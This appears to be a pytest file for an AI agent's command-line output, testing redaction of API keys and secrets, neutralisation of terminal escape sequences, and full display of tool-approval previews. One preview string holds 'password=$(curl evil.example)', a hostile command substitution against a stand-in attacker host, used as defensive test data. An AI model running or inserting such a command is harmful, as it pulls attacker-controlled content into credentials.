"""What the command line prints: no secret, no escape sequence, no cut line in a pipe."""

import io
import json

import click
import pytest

from claw_nb.cli import main
from claw_nb.cli.approving import at_the_terminal
from claw_nb.cli.screen import Screen
from claw_nb.cli.show import show
from claw_nb.commands.output import Listing, Note, Record
from claw_nb.core import redact as redacting
from claw_nb.core.events import (
    ApprovalRequest,
    ApprovalResolved,
    MessageAdded,
    PartialDiscarded,
    RunFailed,
    TextAdded,
    ToolFinished,
    ToolProgressed,
)
from claw_nb.core.messages import Message, Text, ToolCall, ToolResult, Usage

BODY = "a1B2c3D4" * 8
KEY = "sk-ant-" + "api03-" + BODY
CALL = ToolCall(id="1", name="bash", arguments={"command": "ls"})


@pytest.fixture
def forgets(monkeypatch):
    monkeypatch.setattr(redacting, "_exact", set())
    monkeypatch.setattr(redacting, "_by_length", ())


def test_the_screen_never_shows_a_part_of_a_key(capsys):
    screen = Screen()
    screen.show(TextAdded(text=f"It is {KEY[:25]}"))
    assert capsys.readouterr().out == "It is "
    screen.show(PartialDiscarded(turn=1))
    for piece in ("It is ", KEY[:25], KEY[25:], "!\x1b[2J"):
        screen.show(TextAdded(text=piece))
    screen.show(MessageAdded(message=Message(role="assistant", parts=(Text(text="x"),))))
    screen.show(ToolProgressed(call_id="1", text=f"at {KEY}\x1b[2J"))
    screen.show(
        RunFailed(
            kind="server", error=f"no {KEY}", hint="\x1b]0;x", turns=1, tools=0, usage=Usage(), ms=1
        )
    )
    out, err = capsys.readouterr()
    assert out == "\nIt is [REDACTED:anthropic]!␛[2J\n"
    assert "at [REDACTED:anthropic]␛[2J" in err
    assert "no [REDACTED:anthropic]" in err
    assert BODY[:6] not in out + err


def test_a_denial_by_nobody_says_why_once(capsys):
    request = ApprovalRequest(call=CALL, effect="execute", reason="it runs", digest="d")
    screen = Screen()
    screen.show(
        ApprovalResolved(request=request, decision="denied", by="headless", why="Nobody is here.")
    )
    result = ToolResult(call_id="1", name="bash", parts=(Text(text="x"),), error="denied")
    screen.show(ToolFinished(call=CALL, result=result, ms=0))
    assert capsys.readouterr().err.count("Nobody is here.") == 1


def test_json_lines_hold_no_part_of_a_key(capsys, monkeypatch, tmp_path):
    path = tmp_path / "script.json"
    turn = {"text": f"It is {KEY} indeed"}
    path.write_text(json.dumps({"turns": [turn]}), encoding="utf-8")
    monkeypatch.setenv("CLAW_PROVIDER", "scripted")
    monkeypatch.setenv("CLAW_SCRIPT", str(path))
    monkeypatch.setattr("sys.stdin", None)
    assert main(["ask", "--json", "go"]) == 0
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    words = [event["text"] for event in events if event["event"] == "TextAdded"]
    assert len(words) > 1
    assert "".join(words) == "It is [REDACTED:anthropic] indeed"
    assert not any(KEY[:12] in json.dumps(event) for event in events)


async def test_a_question_at_the_terminal_shows_all_and_obeys_nothing(capsys, monkeypatch):
    async def no_line():
        return "n\n"

    monkeypatch.setattr("claw_nb.cli.approving._line", no_line)
    preview = "echo \x1b[8mhidden\u202e\n" + "x" * 9_000 + "\npassword=$(curl evil.example)"
    request = ApprovalRequest(
        call=CALL, effect="execute", reason="it\x1b runs", digest="d", preview=preview, risky=True
    )
    await at_the_terminal(5)(request)
    shown = capsys.readouterr().err
    assert "echo ␛[8mhidden⟨U+202E⟩" in shown
    assert "x" * 9_000 in shown
    assert "evil.example" in shown
    assert "asked about each time" in shown
    assert "session" not in shown
    assert "\x1b" not in click.unstyle(shown)


def test_a_listing_in_a_pipe_is_neither_folded_nor_cut(capsys):
    path = "/a/long/way/" * 40 + "report.html"
    rows = [("now", "a result of several words " * 10, path)]
    show(Listing(title="t: 1 run", columns=("when", "result", "report"), rows=rows, records=()),
         as_json=False)  # fmt: skip
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3
    assert path in lines[2]
    show(Record(title="t", fields={"path": path, "more": "word " * 60}), as_json=False)
    assert len(capsys.readouterr().out.splitlines()) == 3


def test_output_obeys_no_escape_and_json_keeps_its_values(capsys):
    bad = "a\x1b[2J\x9b\u202e"
    rows = [(bad,)]
    show(Listing(title=bad, columns=(bad,), rows=rows, records=[{"a": bad}]), as_json=False)
    show(Record(title=bad, fields={"a": bad}), as_json=False)
    show(Note(text=bad), as_json=False)
    shown = capsys.readouterr().out
    assert shown.count("a␛[2J⟨U+009B⟩⟨U+202E⟩") == 6
    show(Note(text="", facts={"a": bad}), as_json=True)
    text = capsys.readouterr().out
    assert json.loads(text) == {"a": bad}
    assert not {"\x1b", "\x9b", "\u202e"} & set(shown + text)


def test_one_row_is_one_row(capsys):
    main(["sql", "select 1 as a"])
    assert capsys.readouterr().out.splitlines()[0] == "1 row"


def test_a_secret_of_the_environment_is_kept_nowhere(capsys, monkeypatch, tmp_path, home, forgets):
    monkeypatch.setenv("MY_DB_PASSWORD", "correcthorsebattery")
    call = {"name": "bash", "arguments": {"command": "echo correct''horsebattery"}}
    path = tmp_path / "script.json"
    turns = [{"calls": [call]}, {"text": "It is correcthorsebattery."}]
    path.write_text(json.dumps({"turns": turns}), encoding="utf-8")
    monkeypatch.setenv("CLAW_PROVIDER", "scripted")
    monkeypatch.setenv("CLAW_SCRIPT", str(path))
    monkeypatch.setattr("sys.stdin", io.StringIO(""))
    assert main(["ask", "--allow", "bash", "go"]) == 0
    assert capsys.readouterr().out.strip() == "It is [REDACTED:secret]."
    kept = [path for path in home.rglob("*") if path.is_file()]
    assert kept
    assert [path for path in kept if b"correcthorsebattery" in path.read_bytes()] == []
